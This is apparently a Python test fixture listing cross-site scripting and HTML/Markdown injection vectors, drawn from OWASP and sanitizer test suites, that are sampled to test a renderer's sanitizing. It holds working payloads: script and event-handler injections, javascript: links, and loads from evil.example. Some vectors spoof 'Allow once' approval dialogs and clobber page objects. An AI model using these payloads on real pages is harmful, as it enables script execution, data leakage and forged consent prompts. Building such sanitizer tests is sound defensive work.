"""Strings that try to run a script, load something, or pose as the page.

The ideas are those of the OWASP XSS filter evasion cheat sheet and of DOMPurify's and other sanitizers' tests;
each would call `alert(1)` or reach for evil.example if a page let it.
"""

from __future__ import annotations

import random

from tests import tiers

_EVENTS = (
    "onerror", "onload", "onclick", "onmouseover", "onfocus", "onbegin", "onanimationstart", "ontoggle", "onpointerenter", "onwheel",
)  # fmt: skip

MARKUP_KINDS = {
    "scripts": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script>",
        "<script\n>alert(1)</script\n>",
        "<<script>alert(1);//<</script>",
        "<script>alert(1)//",
        "</script><script>alert(1)</script>",
        "<script type=module>import 'https://evil.example/m.js'</script>",
        "<script type=text/vbscript>alert(1)</script>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    ],
    "images": [
        "<img src=x onerror=alert(1)>",
        "<img src=`x` onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        '<img src="x""onerror=alert(1)>',
        '<img """><script>alert(1)</script>">',
        "<img src=https://evil.example/p.png>",
        "<img srcset='https://evil.example/a.png 1x, https://evil.example/b.png 2x'>",
        "<img src=x:alert(1) onerror=eval(src)>",
        "<img src=javascript:alert(1)>",
        "<img lowsrc=https://evil.example/low.png dynsrc=https://evil.example/dyn.avi>",
        "<img src=x style='background:url(https://evil.example/bg.png)'>",
        "<img alt='<x' title='/><img src=x onerror=alert(1)>'>",
        "<image src=x onerror=alert(1)>",
        "<picture><source srcset=https://evil.example/s.png><img src=x></picture>",
    ],
    "drawings": [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script xlink:href=https://evil.example/x.js /></svg>",
        "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>click</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><set attributeName=href to=javascript:alert(1)><a>x</a></set></svg>",
        "<svg><image href=https://evil.example/i.png /></svg>",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'/></svg>",
        "<svg><foreignObject><iframe onload=alert(1)></iframe></foreignObject></svg>",
        "<svg><style>@import 'https://evil.example/s.css';</style></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    ],
    "mathematics": [
        "<math><mi//xlink:href=javascript:alert(1)>click</mi></math>",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror='alert(1)'>\"></style></h1>",
        "<math href=javascript:alert(1)>click</math>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>click</maction></math>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ],
    "frames": [
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
        "<iframe src=https://evil.example/></iframe>",
        "<frameset onload=alert(1)><frame src=https://evil.example/></frameset>",
        "<object data=javascript:alert(1)></object>",
        "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
        "<embed src=https://evil.example/x.swf>",
        "<embed src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+'>",
        "<applet code=X archive=https://evil.example/x.jar></applet>",
    ],
    "heads": [
        "<link rel=stylesheet href=https://evil.example/s.css>",
        "<link rel=prefetch href=https://evil.example/prefetch>",
        "<link rel=import href=https://evil.example/i.html>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
        "<base href=https://evil.example/>",
    ],
    "styles": [
        "<style>@import url(https://evil.example/s.css);</style>",
        "<style>*{background:url(https://evil.example/all.png)!important}</style>",
        "<style>.nwa-panel{display:none!important}.jp-Notebook{visibility:hidden}</style>",
        "<style>@font-face{font-family:x;src:url(https://evil.example/f.woff)}*{font-family:x}</style>",
        '<div style="position:fixed;inset:0;z-index:99999;background:red">over everything</div>',
        '<div style="background-image:url(https://evil.example/d.png)">x</div>',
        '<div style="width:expression(alert(1))">x</div>',
        '<div style="-moz-binding:url(https://evil.example/b.xml#x)">x</div>',
        '<xss style="behavior:url(https://evil.example/x.htc)">',
    ],
    "forms": [
        "<div class='jp-Dialog nwa-approval'><button onclick=alert(1)>Allow once</button></div>",
        "<div id=jp-main-dock-panel>clobbered</div><form name=jupyterapp><input name=commands></form>",
        "<form id=document><input name=cookie><img name=body></form>",
        "<form action=https://evil.example/><input type=submit value='Allow once'></form>",
        "<button formaction=javascript:alert(1) form=x>x</button><form id=x></form>",
        "<isindex action=javascript:alert(1) type=image>",
        "<input autofocus onfocus=alert(1)>",
        "<input type=image src=https://evil.example/i.png onerror=alert(1)>",
        "<select autofocus onfocus=alert(1)></select>",
        "<textarea autofocus onfocus=alert(1)></textarea>",
        "<keygen autofocus onfocus=alert(1)>",
    ],
    "media": [
        "<video src=https://evil.example/v.mp4 autoplay></video>",
        "<video><source onerror=alert(1)></video>",
        "<video poster=https://evil.example/poster.png></video>",
        "<audio src=https://evil.example/a.mp3 autoplay onloadstart=alert(1)></audio>",
        "<track src=https://evil.example/t.vtt>",
    ],
    "elements": [
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<body onload=alert(1) background=https://evil.example/body.png>",
        "<html onmouseover=alert(1)>",
        "<table background=https://evil.example/t.png><td background=https://evil.example/td.png>x</td></table>",
        "<bgsound src=https://evil.example/b.mp3>",
        "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
        "<template><script>alert(1)</script></template>",
        "<template shadowrootmode=open><script>alert(1)</script></template>",
        "<slot onslotchange=alert(1)></slot>",
    ],
    "links": [
        "<a href=javascript:alert(1)>a</a>",
        "<a href='jav\tascript:alert(1)'>a</a>",
        "<a href='java\nscript:alert(1)'>a</a>",
        "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>a</a>",
        "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>a</a>",
        "<a href=' \x01javascript:alert(1)'>a</a>",
        "<a href='JaVaScRiPt&colon;alert(1)'>a</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
        "<a href='vbscript:msgbox(1)'>a</a>",
        "<a href='blob:https://evil.example/x'>a</a>",
        "<a href=https://evil.example/ ping=https://evil.example/ping target=_self onclick=alert(1)>a</a>",
        '<a href="//evil.example/" rel=opener>a</a>',
        "<a onmouseover=alert(1)>a</a>",
        "<p/onclick=alert(1)>x",
        "<x onclick=alert(1) contenteditable>x</x>",
    ],
    "comments": [
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=1.0?><?import namespace=t implementation=https://evil.example/x?>",
        "<xml id=x><a><b>&lt;script>alert(1)&lt;/script>;</b></a></xml>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    ],
    "fragments": [
        '"><script>alert(1)</script>',
        "'><img src=x onerror=alert(1)>",
        "` onmouseover=alert(1) `",
        "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= alert(1) %>",
        "\u202e<script>alert(1)</script>\u202c",
        "\ufeff<img src=x onerror=alert(1)>",
        "\x00<script>alert(1)</script>",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    ],
    "events": [
        *(f"<div {event}=alert(1) style='animation:x' tabindex=0>hover</div>" for event in _EVENTS),
    ],
}
"""Raw HTML, most of it broken on purpose."""

MARKDOWN_KINDS = {
    "links": [
        "[a](javascript:alert(1))",
        "[a](JaVaScRiPt:alert(1))",
        "[a](<javascript:alert(1)>)",
        "[a](java&#10;script:alert(1))",
        "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[a](vbscript:alert(1))",
        "[a](//evil.example/x)",
        '[a](https://evil.example "x\\" onmouseover=alert(1)")',
    ],
    "pictures": [
        "![a](https://evil.example/md.png)",
        "![a](javascript:alert(1))",
        '![a" onerror="alert(1)](x)',
        "![a](data:image/svg+xml,<svg onload=alert(1)>)",
        "[![x](https://evil.example/nested.png)](javascript:alert(1))",
    ],
    "references": [
        "[ref]\n\n[ref]: javascript:alert(1)",
        "![ref2]\n\n[ref2]: https://evil.example/ref.png",
        "<javascript:alert(1)>",
        '<https://evil.example/"onmouseover=alert(1)>',
    ],
    "code": [
        "```html\n<script>alert(1)</script>\n```",
        '```"><script>alert(1)</script>\nx\n```',
        "`<img src=x onerror=alert(1)>`",
    ],
    "mathematics": [
        "$\\href{javascript:alert(1)}{x}$",
        "$\\text{<img src=x onerror=alert(1)>}$",
        "$$\\style{position:fixed}{x} \\class{nwa-approval}{y} \\unicode{60}$$",
        "$\\includegraphics{https://evil.example/tex.png}$",
    ],
    "blocks": [
        "| <img src=x onerror=alert(1)> |\n|---|\n| [a](javascript:alert(1)) |",
        "# <svg onload=alert(1)>",
        "> <iframe src=javascript:alert(1)>",
        "- <details open ontoggle=alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "\\<script>alert(1)\\</script>",
    ],
}
"""Markdown and mathematics."""

EVERYTHING = [each for kinds in (MARKUP_KINDS, MARKDOWN_KINDS) for kind in kinds.values() for each in kind]


def chosen(kinds: dict[str, list[str]]) -> list[str]:
    """What this run tries: all in the thorough tier, some of every kind in the suite."""
    return [each for kind in kinds.values() for each in tiers.sample(kind, at_least=2)]


MARKUP = chosen(MARKUP_KINDS)
MARKDOWN = chosen(MARKDOWN_KINDS)


def portions(vectors: list[str], *sizes: int) -> list[list[str]]:
    """The strings, shuffled, in portions that are to each other as `sizes`; none is empty."""
    shuffled = random.Random(tiers.SEED).sample(vectors, len(vectors))
    found = []
    for size in sizes[:-1]:
        count = max(1, round(len(vectors) * size / sum(sizes)))
        found.append(shuffled[:count])
        shuffled = shuffled[count:]
    return [*found, shuffled]
